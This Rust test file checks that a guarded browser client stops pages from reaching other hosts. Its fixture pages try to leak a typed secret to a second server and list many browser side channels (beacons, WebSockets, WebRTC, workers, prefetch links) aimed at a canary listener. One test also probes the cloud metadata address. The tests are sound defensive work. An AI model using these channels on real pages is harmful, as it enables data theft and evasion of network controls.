//! What pages cannot do.

use std::sync::atomic::{AtomicUsize, Ordering};

use tokio::net::UdpSocket;

use super::*;

/// A page with ways to the other host `there`, and to the listener `canary`.
fn page(line: &str, there: &str, canary: &str) -> Answer {
    match line {
        "GET /" => html(&format!(
            "<input id=secret><a href={there}/link>link</a><a href=/leads>leads</a>
             <a href={there}/tab target=_blank>tab</a>
             <a href=/refresh>refresh</a><button onclick=\"location = '{there}/script'\">script</button>
             <button onclick=\"window.open('{there}/popup')\">popup</button>
             <form method=post action={there}/form><button>form</button></form>
             <button onclick=\"fetch('{there}/post', {{method: 'POST', mode: 'no-cors', body: 'x'}}).catch(() => 0);
               navigator.sendBeacon('{there}/beacon', 'x');
               new Image().src = '{there}/image?q=' + btoa('_' + secret.value);
               new Image().src = '{there}/plain'; fetch('/own', {{method: 'PUT', body: secret.value}})\">send</button>"
        )),
        "GET /leads" => (302, vec![("location", format!("{there}/redirect"))], String::new()),
        "GET /refresh" => html(&format!("<p>stays</p><meta http-equiv=refresh content='0;{there}/refreshed'>")),
        "GET /set" => (200, vec![("set-cookie", "a=1; Path=/".to_owned())], String::new()),
        "GET /ways" => html(&format!("<p id=done>no</p><script>const canary = '{canary}';{WAYS}</script>")),
        "GET /worker.js" => (
            200,
            vec![("content-type", "text/javascript".to_owned())],
            format!(
                "fetch('http://{canary}/worker', {{mode: 'no-cors'}}).catch(() => 0);
                 new WebSocket('ws://{canary}/worker-socket');
                 new WebTransport('https://{canary}/').ready.catch(() => 0);
                 fetch('/from-worker').then((answer) => self.postMessage?.('loaded ' + answer.status));
                 new Worker('/worker.js');"
            ),
        ),
        "GET /from-worker" | "PUT /own" => (200, Vec::new(), "x".to_owned()),
        _ => nothing(),
    }
}

/// Every way that a page has to reach another server.
const WAYS: &str = r"
const quietly = (what) => { try { Promise.resolve(what()).catch(() => 0); } catch {} };
quietly(() => fetch('http://' + canary + '/fetch', {mode: 'no-cors'}));
quietly(() => navigator.sendBeacon('http://' + canary + '/beacon', 'x'));
quietly(() => new WebSocket('ws://' + canary + '/socket'));
quietly(() => new EventSource('http://' + canary + '/events'));
quietly(() => { new Image().src = 'http://' + canary + '/image'; });
quietly(() => window.open('http://' + canary + '/popup'));
quietly(() => navigator.serviceWorker.register('/worker.js'));
quietly(() => new SharedWorker('/worker.js'));
quietly(() => {
  const turn = {urls: 'turn:' + canary, username: 'a', credential: 'b'};
  const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:' + canary}, turn]});
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});
quietly(() => new WebTransport('https://' + canary + '/'));
const places = {iframe: 'src', object: 'data', link: 'href', video: 'src', embed: 'src'};
for (const [tag, name] of Object.entries(places)) {
  for (const rel of tag === 'link' ? ['prefetch', 'preconnect', 'preload', 'stylesheet', 'prerender'] : ['']) {
    const element = document.createElement(tag);
    if (rel) element.rel = rel;
    element[name] = 'http://' + canary + '/' + tag;
    document.body.append(element);
  }
}
new Worker('/worker.js').onmessage = (e) => { done.textContent = e.data; };
";

async fn sites() -> (Site, Site, Arc<AtomicUsize>) {
    let canary = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let hits = Arc::new(AtomicUsize::new(0));
    let (address, counter) = (canary.local_addr().unwrap().to_string(), Arc::clone(&hits));
    let datagrams = UdpSocket::bind(&address).await.unwrap();
    let second = Arc::clone(&hits);
    tokio::spawn(async move {
        while datagrams.recv(&mut [0; 16]).await.is_ok() {
            second.fetch_add(1, Ordering::SeqCst);
        }
    });
    tokio::spawn(async move {
        while canary.accept().await.is_ok() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    let other = Site::start("localhost", |_: &Asked| {
        (200, vec![("set-cookie", "theirs=1; SameSite=None".to_owned())], "elsewhere".to_owned())
    })
    .await;
    let there = other.url("");
    let site = Site::start("127.0.0.1", move |asked: &Asked| page(&asked.line, &there, &address)).await;
    (site, other, hits)
}

#[tokio::test]
async fn other_domains_are_not_opened_and_get_no_data() {
    let (site, other, _) = sites().await;
    let Some(session) = start(&[&site, &other], None).await else { return };
    assert!(matches!(session.goto(&other.url("/")).await, Err(ActError::Refused(_))));
    session.goto(&site.url("/set")).await.unwrap();
    session.goto(&site.url("/")).await.unwrap();
    assert_eq!(session.refused(), [""; 0]);
    for (way, path) in [
        ("link", "/link"),
        ("leads", "/redirect"),
        ("tab", "/tab"),
        ("script", "/script"),
        ("popup", "/popup"),
        ("form", "/form"),
    ] {
        click(&session, way).await;
        let refused = session.refused();
        assert!(refused.len() == 1 && refused[0].contains(&other.url(path)), "{way}: {refused:?}");
        let view = session.view().await.unwrap();
        assert_eq!(view["url"], site.url("/"), "{way}: {view:#}");
        assert_eq!(view["tabs"].as_array().unwrap().len(), 1, "{way}: {view:#}");
    }
    click(&session, "refresh").await;
    assert_eq!((session.refused().len(), text(&session).await), (1, "stays".to_owned()));
    assert_eq!(other.lines(), [""; 0]);

    session.goto(&site.url("/")).await.unwrap();
    click(&session, "secret").await;
    session.type_text("hunter22").await.unwrap();
    click(&session, "send").await;
    assert_eq!(site.last("PUT /own").body, b"hunter22");
    assert_eq!(site.last("PUT /own").headers["cookie"], "a=1");
    assert_eq!(other.lines(), ["GET /plain"]);
    let plain = other.last("GET /plain").headers;
    assert!(!plain.contains_key("cookie") && plain["referer"] == site.url("/"), "{plain:?}");
    let refused = session.refused();
    assert_eq!(refused.len(), 3, "{refused:?}");
    assert!(session.state().await.unwrap().cookies.iter().all(|cookie| cookie.name != "theirs"));
}

#[tokio::test]
async fn pages_reach_nothing_past_the_guarded_client() {
    let (site, _, hits) = sites().await;
    let Some(session) = start(&[&site], None).await else { return };
    session.goto(&site.url("/ways")).await.unwrap();
    sleep(Duration::from_secs(2)).await;
    session.tab(1).await.unwrap();
    // Workers of the page itself work.
    assert!(text(&session).await.contains("loaded 200"), "{}", text(&session).await);
    assert_eq!(hits.load(Ordering::SeqCst), 0, "{:?}", session.refused());
    assert!(session.refused().iter().any(|note| note.contains("/worker")));
    // Nor do the first, empty documents of tabs and frames.
    let tab = session.current().unwrap();
    for first in [
        "window",
        "open('about:blank')",
        "open('', 'named')",
        "document.body.appendChild(document.createElement('iframe')).contentWindow",
        "frames[frames.length - 1].open('')",
    ] {
        let probe = format!("(one => typeof one.RTCPeerConnection + typeof one.WebTransport)({first})");
        let probe = json!({"expression": probe, "userGesture": true});
        let found = session.on(&tab, "Runtime.evaluate", probe).await.unwrap();
        assert_eq!(found["result"]["value"], "undefinedundefined", "{first}: {found}");
    }
    let error = session.goto("http://169.254.169.254/latest/meta-data").await.unwrap_err();
    assert!(matches!(&error, ActError::Refused(why) if why.contains("public internet")), "{error}");
}

#[tokio::test]
async fn tabs_are_few() {
    let site = Site::start("127.0.0.1", |_: &Asked| html("<title>tab</title>")).await;
    let Some(session) = start(&[&site], None).await else { return };
    session.goto(&site.url("/")).await.unwrap();
    let tab = session.current().unwrap();
    for number in 0..=MAX_TABS {
        let features = if number % 2 == 0 { "noopener" } else { "" };
        let open = format!("window.open('/tab{number}', '_blank', '{features}'); 0");
        session.on(&tab, "Runtime.evaluate", json!({"expression": open, "userGesture": true})).await.unwrap();
    }
    session.rest().await.unwrap();
    let view = session.view().await.unwrap();
    let tabs = view["tabs"].as_array().unwrap();
    assert!(tabs.len() == MAX_TABS && tabs.iter().all(|tab| tab["title"] == "tab"), "{view:#}");
    let refused = session.refused();
    assert!(refused.len() == 2 && refused[0].contains("too many tabs"), "{refused:?}");
}
